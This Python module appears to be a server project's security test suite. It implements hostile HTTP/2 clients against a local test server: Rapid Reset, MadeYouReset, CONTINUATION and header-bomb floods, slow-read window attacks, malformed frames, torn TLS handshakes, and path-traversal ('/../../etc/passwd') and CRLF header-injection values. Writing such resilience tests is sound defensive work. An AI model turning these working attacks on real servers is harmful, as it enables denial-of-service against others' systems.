"""Hostile clients: each breaks the rules, or keeps to their letter in a way that costs
the server more than the client. A function here is one attack; docs/security.md
says what holds against them. Bytes are made by hand, from tests/interop/support.py."""

import asyncio
import collections
import os
import socket
import ssl
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                "interop"))
import support  # noqa: E402
from support import (  # noqa: E402
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, hpack, request, request_fields, settings,
    window_update)

_CODES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
          "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM")
_PRIORITY_UPDATE = 0x10
_LARGEST = 2**31 - 1


def _code_name(payload):
    code = struct.unpack(">I", payload)[0]
    return _CODES[code] if code < len(_CODES) else hex(code)


class Attacker:
    """One connection. `hold` is for how many seconds an attack that waits waits."""

    def __init__(self, server, rng, hold):
        self.server = server
        self.rng = rng
        self.hold = hold
        self.reader = None
        self.writer = None
        self.preface = PREFACE + settings() + frame(SETTINGS, ACK)

    async def connect(self, tls=None, receive_buffer=None):
        raw = socket.socket()
        raw.setblocking(False)
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", self.server.port))
        except BaseException:
            raw.close()
            raise
        secure = self.server.tls if tls is None else tls
        self.reader, self.writer = await asyncio.open_connection(
            sock=raw, ssl=self.server.client_context() if secure else None,
            server_hostname="127.0.0.1" if secure else None, limit=receive_buffer or 65536)

    def tear(self):
        """The end with an RST of TCP."""
        raw = self.writer.get_extra_info("socket")
        if raw is not None and raw.fileno() >= 0:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.writer.transport.abort()

    async def play(self, *pieces, hold=None):
        """Sends the pieces after the preface, and reads on for `hold` seconds at
        most. How it ends: the code of GOAWAY; "closed" or "torn", without a GOAWAY;
        or "left" by us, with the code of the resets, if there were any."""
        if self.writer is None:
            await self.connect()
        sending = asyncio.create_task(self._send(self.preface, *pieces))
        resets = collections.Counter()
        try:
            code = await asyncio.wait_for(self._read(resets), hold or 3 * self.hold)
        except asyncio.TimeoutError:
            code = "left after RST_STREAM " + resets.most_common(1)[0][0] if resets else "left"
        except (ConnectionError, ssl.SSLError):
            code = "torn"
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)
        return code

    async def _send(self, *pieces):
        for piece in pieces:
            if self.writer.is_closing():
                return
            self.writer.write(piece)
            await self.writer.drain()

    async def _read(self, resets):
        try:
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == GOAWAY:
                    return "GOAWAY " + _code_name(payload[4:8])
                if head[3] == RST_STREAM:
                    resets[_code_name(payload)] += 1
        except asyncio.IncompleteReadError:
            return "closed"


def _requests(count, path="/3m", first=1):
    return b"".join(request(first + 2 * n, path) for n in range(count))


# Floods: legal frames, in masses. Each repeats a piece until the server has enough.

async def rapid_reset(attacker):
    """CVE-2023-44487."""
    return await attacker.play(*(
        request(stream, "/3m") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(1, 8001, 2)))


async def made_you_reset(attacker):
    """CVE-2025-8671: the server is made to reset."""
    provoke = attacker.rng.choice((
        lambda stream: window_update(stream, 0),
        lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1)),
        lambda stream: frame(PRIORITY, 0, stream, b"1234"),
        lambda stream: window_update(stream, _LARGEST)))
    return await attacker.play(*(
        request(stream, "/3m") + provoke(stream) for stream in range(1, 8001, 2)))


def _flood(make):
    async def flood(attacker):
        piece = make(attacker.rng)
        return await attacker.play(*([piece * 100] * 200))
    return flood


def _priorities(rng):
    return b"".join(frame(PRIORITY, 0, rng.randrange(1, 2**20) | 1,
                          struct.pack(">IB", rng.randrange(2**20), 7)) for _ in range(20))


def _priority_updates(rng):
    return b"".join(frame(_PRIORITY_UPDATE, 0, 0,
                          struct.pack(">I", rng.randrange(200) | 1) + b"u=%d" % rng.randrange(8))
                    for _ in range(20))


_FLOODS = {
    "ping_flood": lambda rng: frame(PING, payload=bytes(8)),
    "ping_ack_flood": lambda rng: frame(PING, ACK, payload=bytes(8)),
    "settings_flood": lambda rng: settings(initial_window_size=rng.randrange(2**16)),
    "empty_settings_flood": lambda rng: frame(SETTINGS),
    "priority_flood": _priorities,
    "priority_update_flood": _priority_updates,
    "window_update_flood": lambda rng: window_update(0, 1),
    "unknown_frame_flood": lambda rng: frame(0xbe, payload=bytes(rng.randrange(20))),
    "goaway_flood": lambda rng: frame(GOAWAY, payload=bytes(8)),
}


async def empty_data_flood(attacker):
    return await attacker.play(request(1, "/1k", method="POST", end_stream=False),
                               *([frame(DATA, 0, 1) * 100] * 200))


async def unread_pings(attacker):
    """Answers that nobody fetches."""
    await attacker.connect(receive_buffer=4096)
    await asyncio.wait({asyncio.create_task(attacker._send(
        attacker.preface, *([frame(PING, payload=bytes(8)) * 1000] * 50)))}, timeout=attacker.hold)
    return await attacker.play(hold=attacker.hold)


# Header blocks.

async def continuation_flood(attacker):
    """CVE-2024-27316 and its family: a header block without an end."""
    piece = attacker.rng.choice((b"", hpack([("x", "y" * 1000)])))
    return await attacker.play(frame(HEADERS, END_STREAM, 1, hpack(request_fields())),
                               *([frame(CONTINUATION, 0, 1, piece) * 20] * 100))


async def header_bomb(attacker):
    """CVE-2016-1544: one byte names a field of 4,000 bytes, again and again."""
    block = (hpack(request_fields()) + hpack([("x-bomb", "b" * 4000)], indexing=True)
             + b"\xbe" * attacker.rng.choice((20, 1000)))
    return await attacker.play(*(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 41, 2)))


async def malformed_requests(attacker):
    fields = [[(":method", "GET")], request_fields() + [("Upper", "case")],
              request_fields() + [("transfer-encoding", "chunked")],
              request_fields() + [("x", "a\r\nb: c")], request_fields("/../../etc/passwd"),
              request_fields() + [(":path", "/")], request_fields() + [("content-length", "7")]]
    return await attacker.play(*(
        frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, hpack(attacker.rng.choice(fields)))
        for n in range(30)), hold=attacker.hold)


# Windows.

async def slow_read(attacker):
    """CVE-2019-9511: all is asked for, and little is read."""
    await attacker.connect(receive_buffer=2048)
    await attacker._send(PREFACE, settings(initial_window_size=_LARGEST), frame(SETTINGS, ACK),
                         window_update(0, 2**30), _requests(50))
    try:
        for _ in range(20):
            if not await attacker.reader.read(100):
                return "closed"
            await asyncio.sleep(attacker.hold / 20)
    except ConnectionError:
        return "torn"
    return "left"


async def window_stall(attacker):
    """CVE-2016-8740's way: a hundred responses that no window lets go."""
    attacker.preface = PREFACE + settings(initial_window_size=0) + frame(SETTINGS, ACK)
    return await attacker.play(_requests(120))


async def window_dribble(attacker):
    """CVE-2019-9511: a byte at a time."""
    attacker.preface = PREFACE + settings(initial_window_size=0) + frame(SETTINGS, ACK)
    return await attacker.play(_requests(10), *(
        [b"".join(window_update(1 + 2 * n, 1) for n in range(10))] * 500), hold=attacker.hold)


async def window_overflow(attacker):
    return await attacker.play(_requests(3), attacker.rng.choice((
        window_update(0, _LARGEST), window_update(1, _LARGEST), window_update(0, 0),
        settings(initial_window_size=2**31))), hold=attacker.hold)


async def data_without_credit(attacker):
    return await attacker.play(request(1, "/1k", method="POST", end_stream=False),
                               *([frame(DATA, 0, 1, bytes(16384))] * 100))


# Streams, frames and bytes.

async def stream_id_games(attacker):
    pieces = [request(attacker.rng.choice((0, 1, 2, 3, 5, _LARGEST, _LARGEST - 1)), "/1k"),
              frame(DATA, 0, attacker.rng.choice((0, 1, 2, 99)), b"x"),
              frame(RST_STREAM, 0, attacker.rng.choice((1, 2, 7)), bytes(4)),
              frame(support.PUSH_PROMISE, END_HEADERS, 1, bytes(4)),
              request(1, "/1k") + request(1, "/1k"), _requests(150)]
    attacker.rng.shuffle(pieces)
    return await attacker.play(*pieces)


async def wrong_lengths(attacker):
    kind = attacker.rng.choice((DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY,
                                WINDOW_UPDATE, CONTINUATION, 0xbe))
    size = attacker.rng.choice((0, 1, 3, 5, 7, 9, 16385))
    return await attacker.play(request(1, "/3m"), frame(
        kind, 0, attacker.rng.choice((0, 1)), bytes(size)), hold=attacker.hold)


async def garbage(attacker):
    noise = attacker.rng.randbytes(attacker.rng.choice((10, 100, 10_000)))
    attacker.preface = attacker.rng.choice((b"", PREFACE, attacker.preface))
    return await attacker.play(noise)


async def changed_bytes(attacker):
    """A good session with a few wrong bytes."""
    session = bytearray(attacker.preface + _requests(5, "/100k") + settings() + window_update(0, 9))
    for _ in range(attacker.rng.choice((1, 3, 10))):
        session[attacker.rng.randrange(len(session))] = attacker.rng.randrange(256)
    attacker.preface = bytes(session)
    return await attacker.play(hold=attacker.hold)


# Connections.

async def torn(attacker):
    """A session that ends at any byte, by FIN or by RST, with a response on its way."""
    session = attacker.preface + _requests(10)
    await attacker.connect()
    await attacker._send(session[:attacker.rng.randrange(len(session))])
    await asyncio.sleep(attacker.rng.random() * attacker.hold / 10)
    if attacker.rng.random() < 0.7:
        attacker.tear()
    return "left"


async def half_open(attacker):
    """It connects, says a little or nothing, and waits."""
    await attacker.connect(tls=False)
    attacker.preface = attacker.rng.choice((b"", PREFACE[:10], b"\x16\x03\x01\x02\x00\x01"))
    return await attacker.play()


async def torn_handshake(attacker):
    """The first bytes of TLS, changed or cut; on a cleartext port garbage as well."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = attacker.server.client_context().wrap_bio(incoming, outgoing, False, "127.0.0.1")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    said = bytearray(outgoing.read())
    said[attacker.rng.randrange(len(said))] ^= 1 << attacker.rng.randrange(8)
    await attacker.connect(tls=False)
    attacker.preface = bytes(said[:attacker.rng.randrange(1, len(said) + 1)])
    return await attacker.play(hold=attacker.hold / 4)


ATTACKS = {
    **{name: _flood(make) for name, make in _FLOODS.items()},
    **{attack.__name__: attack for attack in (
        rapid_reset, made_you_reset, empty_data_flood, unread_pings, continuation_flood, header_bomb,
        malformed_requests, slow_read, window_stall, window_dribble, window_overflow,
        data_without_credit, stream_id_games, wrong_lengths, garbage, changed_bytes, torn, half_open,
        torn_handshake)},
}


async def attack(name, server, rng, hold):
    """How the attack ended."""
    attacker = Attacker(server, rng, hold)
    try:
        return await ATTACKS[name](attacker)
    except (ConnectionError, ssl.SSLError):
        return "torn"
    finally:
        if attacker.writer is not None:
            attacker.writer.transport.abort()
